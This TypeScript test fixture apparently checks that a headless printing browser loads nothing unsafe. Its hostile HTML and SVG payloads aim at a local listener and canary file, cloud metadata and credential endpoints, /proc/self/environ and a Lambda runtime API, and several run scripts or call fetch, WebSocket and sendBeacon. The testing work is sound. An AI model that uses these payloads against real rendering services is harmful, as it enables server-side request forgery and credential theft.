/** The targets of the payloads: a listener and a file that must not be reached. */
export interface PayloadTargets {
  /** `http://127.0.0.1:…` of the listener. */
  readonly origin: string;
  /** `file://…` of the canary. */
  readonly file: string;
}

/** The text that a script writes if it runs. */
export const scriptMark = 'SCRIPT-HAS-RUN';

const write = `document.body.innerHTML='${scriptMark}'`;
const frameOf = (html: string) => `data:text/html;base64,${Buffer.from(html).toString('base64')}`;

/** Payloads that make a printing browser fetch, read or run something (threats 14 to 16). */
export function hostilePayloads({ origin, file }: PayloadTargets): Record<string, string> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">`;
  return {
    img: `<img src="${origin}/img">`,
    'img srcset': `<img srcset="${origin}/1 1x, ${origin}/2 2x" src="${origin}/0"><picture><source srcset="${origin}/p"><img></picture>`,
    'css @import': `<style>@import url(${origin}/a.css); @import "${origin}/b.css" print;</style>`,
    'css @font-face': `<style>@font-face{font-family:x;src:url(${origin}/f.woff2)}p{font-family:x}</style><p>letters</p>`,
    'css background': `<p style="background:url(${origin}/bg)">x</p><style>p::before{content:url(${origin}/c)}li{list-style-image:url(${origin}/l)}</style><li>x</li>`,
    'css of a page': `<style>@page{background:url(${origin}/page);@top-left{content:url(${origin}/margin)}}</style><p>x</p>`,
    'link stylesheet': `<link rel="stylesheet" href="${origin}/s.css"><link rel="stylesheet" media="print" href="${origin}/p.css">`,
    'link prefetch': `<link rel="prefetch" href="${origin}/p"><link rel="prerender" href="${origin}/r"><link rel="next" href="${origin}/n">`,
    'link preload': `<link rel="preload" as="font" crossorigin href="${origin}/f"><link rel="modulepreload" href="${origin}/m.js">`,
    'link preconnect': `<link rel="preconnect" href="${origin}"><link rel="dns-prefetch" href="//canary.example"><meta http-equiv="x-dns-prefetch-control" content="on">`,
    'link icon and manifest': `<link rel="icon" href="${origin}/i"><link rel="manifest" href="${origin}/m"><link rel="pingback" href="${origin}/p">`,
    base: `<base href="${origin}/"><img src="relative"><link rel="stylesheet" href="s.css">`,
    iframe: `<iframe src="${origin}/frame"></iframe><frameset><frame src="${origin}/f"></frameset>`,
    'iframe file': `<iframe src="${file}" width="600" height="400"></iframe>`,
    'iframe srcdoc': `<iframe srcdoc='<img src="${origin}/s"><iframe src="${file}"></iframe><script>parent.${write}</script>'></iframe>`,
    'iframe data': `<iframe src="${frameOf(`<img src="${origin}/d"><iframe src="${file}"></iframe><script>${write}</script>`)}"></iframe>`,
    object: `<object data="${file}" type="text/plain"></object><object data="${origin}/o"></object><embed src="${file}"><embed src="${origin}/e"><applet code="${origin}/a"></applet>`,
    'img file': `<img src="${file}"><img src="file:///proc/self/environ"><link rel="stylesheet" href="${file}"><link rel="attachment" href="${file}">`,
    proc: `<iframe src="file:///proc/self/environ"></iframe><object data="file:///proc/self/cmdline"></object><iframe src="file:///var/task/index.mjs"></iframe>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${origin}/refresh"><p>x</p>`,
    'meta refresh file': `<meta http-equiv="refresh" content="0; url=${file}"><p>x</p>`,
    'svg image': `${svg}<image href="${origin}/s" width="9" height="9"/><image xlink:href="${file}"/><use href="${origin}/u#x"/><filter id="f"><feImage href="${origin}/fe"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'svg foreignObject': `${svg}<foreignObject width="300" height="300"><iframe src="${file}"></iframe><img src="${origin}/fo"></foreignObject><script>${write}</script></svg>`,
    'svg in data image': `<img src="data:image/svg+xml;base64,${Buffer.from(`${svg}<image href="${origin}/in"/><style>@import url(${origin}/css);</style><script>${write}</script><foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${file}"/></foreignObject></svg>`).toString('base64')}">`,
    'video and audio': `<video src="${origin}/v" poster="${origin}/poster" autoplay preload="auto"><track default src="${origin}/t"></video><audio src="${origin}/a" autoplay></audio><video><source src="${origin}/vs"></video>`,
    'form and ping': `<form action="${origin}/form"><input type="image" src="${origin}/in" autofocus onfocus="${write}"></form><a ping="${origin}/ping" href="${origin}/a">x</a><body background="${origin}/body">`,
    metadata: `<img src="http://169.254.169.254/latest/meta-data/"><iframe src="http://169.254.170.2/v2/credentials"></iframe><img src="http://[fd00:ec2::254]/">`,
    'runtime API': `<iframe src="http://127.0.0.1:9001/2018-06-01/runtime/invocation/next"></iframe><img src="http://localhost:9001/"><img src="http://0.0.0.0:9001/"><img src="http://[::1]:9001/">`,
    'other protocols': `<iframe src="ftp://127.0.0.1/"></iframe><iframe src="chrome://version"></iframe><iframe src="view-source:${file}"></iframe><img src="blob:${origin}/x"><iframe src="filesystem:${origin}/x"></iframe><iframe src="devtools://devtools/bundled/inspector.html"></iframe>`,
    script: `<script>${write};fetch('${origin}/fetch');new WebSocket('${origin.replace('http', 'ws')}/');navigator.sendBeacon('${origin}/b')</script><script src="${origin}/s.js"></script><script type="module">import '${origin}/m.js'</script>`,
    'endless script': `<p>x</p><script>while(1){}</script>`,
    'script by event': `<img src=x onerror="${write}"><svg onload="${write}"></svg><body onload="${write}"><details open ontoggle="${write}"><style onload="${write}"></style><input autofocus onfocus="${write}">`,
    'javascript address': `<iframe src="javascript:parent.${write}"></iframe><a href="javascript:${write}">x</a><object data="javascript:${write}"></object><form action="javascript:${write}"><button autofocus>x</button></form>`,
    webrtc: `<script>const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${origin.split(':').at(-1)}'},{urls:'turn:127.0.0.1:${origin.split(':').at(-1)}?transport=tcp',username:'u',credential:'c'}]});c.createDataChannel('');c.createOffer().then(o=>c.setLocalDescription(o))</script>`,
    worker: `<script>new Worker('data:text/javascript,fetch("${origin}/w")');navigator.serviceWorker?.register('${origin}/sw.js')</script>`,
    redirect: `<img src="${origin}/redirect"><iframe src="${origin}/redirect"></iframe><meta http-equiv="Content-Security-Policy" content="report-uri ${origin}/csp">`,
    speculation: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${origin}/spec"]}],"prerender":[{"source":"list","urls":["${origin}/pre"]}]}</script><portal src="${origin}/portal"></portal><fencedframe src="${origin}/f"></fencedframe>`,
  };
}
